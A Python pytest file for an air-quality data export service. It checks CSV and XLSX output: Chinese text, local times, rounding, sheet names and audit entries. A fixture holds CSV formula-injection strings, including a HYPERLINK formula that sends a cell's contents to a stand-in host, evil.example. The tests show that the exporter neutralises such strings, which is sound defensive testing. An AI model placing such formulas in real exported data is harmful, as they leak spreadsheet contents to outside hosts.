"""services.export: CSV that Excel opens with Chinese intact, XLSX that round-trips, and the audit entry."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy.orm import Session

from services import audit
from services.access import Principal, Role
from services.export import DATE_TIME_FORMAT, RATE, ColumnFormat, record_export, to_csv, to_xlsx

FRAME = pd.DataFrame(
    {
        "时间": pd.to_datetime(["2026-03-01 08:00", "2026-03-01 09:00"]).tz_localize("Asia/Shanghai"),
        "区域": ["思明区", "湖里区"],
        "均值": [101.5, None],
        "读数个数": [12, 0],
    }
)


def test_csv_starts_with_a_bom_and_keeps_chinese() -> None:
    data = to_csv(FRAME)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig").splitlines()
    assert text[0] == "时间,区域,均值,读数个数"
    assert text[1] == "2026-03-01 08:00:00,思明区,101.5,12"  # local wall-clock time, a form Excel reads as a date
    assert text[2].endswith(",湖里区,,0")
    pd.testing.assert_frame_equal(
        pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")[["区域", "读数个数"]], FRAME[["区域", "读数个数"]]
    )


def test_xlsx_round_trips_with_local_times_and_a_safe_sheet_name() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(FRAME, "aqi: 趋势/近24小时 [思明区] and a very long name")))
    (sheet,) = book.worksheets
    assert sheet.title == "aqi_ 趋势_近24小时 _思明区_ and a very " and len(sheet.title) == 31
    rows = list(sheet.values)
    assert rows[0] == ("时间", "区域", "均值", "读数个数")
    assert rows[1][0].isoformat() == "2026-03-01T08:00:00" and rows[1][1:] == ("思明区", 101.5, 12)
    assert rows[2][2] is None
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert to_xlsx(FRAME.iloc[:0], "") and openpyxl.load_workbook(io.BytesIO(to_xlsx(FRAME, ""))).active.title == "Sheet1"


def test_record_export_appends_an_audit_entry(session: Session) -> None:
    analyst = Principal(username="li", role=Role.ANALYST)
    record_export(session, actor=analyst, what="indicators", detail="?code=aqi")
    session.commit()
    (entry,) = audit.recent(session, action="export.indicators")
    assert (entry.actor, entry.role, entry.detail) == ("li", "analyst", "?code=aqi")


HOSTILE = pd.DataFrame({
    "地址": ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "思明路1号"],
    "数量": [1, -2, 3, 4, 5, 6, 7],
})  # fmt: skip


def test_csv_neutralises_text_that_a_spreadsheet_would_run_as_a_formula() -> None:
    frame = pd.read_csv(io.BytesIO(to_csv(HOSTILE)), encoding="utf-8-sig", keep_default_na=False)
    assert all(value.startswith("'") for value in frame["地址"][:6]), list(frame["地址"])
    assert frame["地址"][6] == "思明路1号" and list(frame["数量"]) == [1, -2, 3, 4, 5, 6, 7]  # numbers stay numbers


def test_xlsx_writes_formula_like_text_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(HOSTILE, "events")))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * 7
    assert cells[0].value == HOSTILE["地址"][0]
    assert book.active["B3"].value == -2 and book.active["B3"].data_type == "n"


def test_xlsx_drops_characters_xml_cannot_hold_instead_of_failing() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(pd.DataFrame({"标题": ["bell\x07 and nul\x00"]}), "t")))
    assert book.active["A2"].value == "bell and nul"


MEASURED = pd.DataFrame({
    "时间": pd.to_datetime(["2026-03-01 08:00:30", None]).tz_localize("Asia/Shanghai"),
    "均值": [90.45614285714285, 3.0],
    "按时率": [0.9045614285714285, None],
    "PM2.5": [35.04999, 12.0],
    "件数": [12, 3],
})  # fmt: skip
MEASURED_FORMATS = {"按时率": RATE, "PM2.5": ColumnFormat(decimals=0)}


def test_xlsx_writes_numbers_rounded_percentages_and_date_times_as_typed_cells() -> None:
    """An export showed 90.45614285714285, and times and percentages as text: Excel could not sum or sort them."""
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(MEASURED, "t", formats=MEASURED_FORMATS))).active
    when, mean, rate, pm, count = sheet[2]
    assert when.is_date and when.value.isoformat() == "2026-03-01T08:00:30"
    assert when.number_format == DATE_TIME_FORMAT
    assert (mean.data_type, mean.value, mean.number_format) == ("n", 90.46, "0.00")  # a float column: 2 decimals
    assert (rate.data_type, rate.value, rate.number_format) == ("n", 0.905, "0.0%")
    assert (pm.value, pm.number_format) == (35, "0")
    assert (count.data_type, count.value) == ("n", 12)
    assert sheet["A3"].value is None and sheet["C3"].value is None  # missing stays empty, never "nan" or "NaT"


def test_csv_writes_rounded_numbers_percentages_and_local_times() -> None:
    lines = to_csv(MEASURED, formats=MEASURED_FORMATS).decode("utf-8-sig").splitlines()
    assert lines[1:] == ["2026-03-01 08:00:30,90.46,90.5%,35,12", ",3.0,,12,3"]


def test_a_format_for_a_column_the_frame_lacks_is_refused() -> None:
    with pytest.raises(ValueError, match="均值x"):
        to_csv(MEASURED, formats={"均值x": RATE})
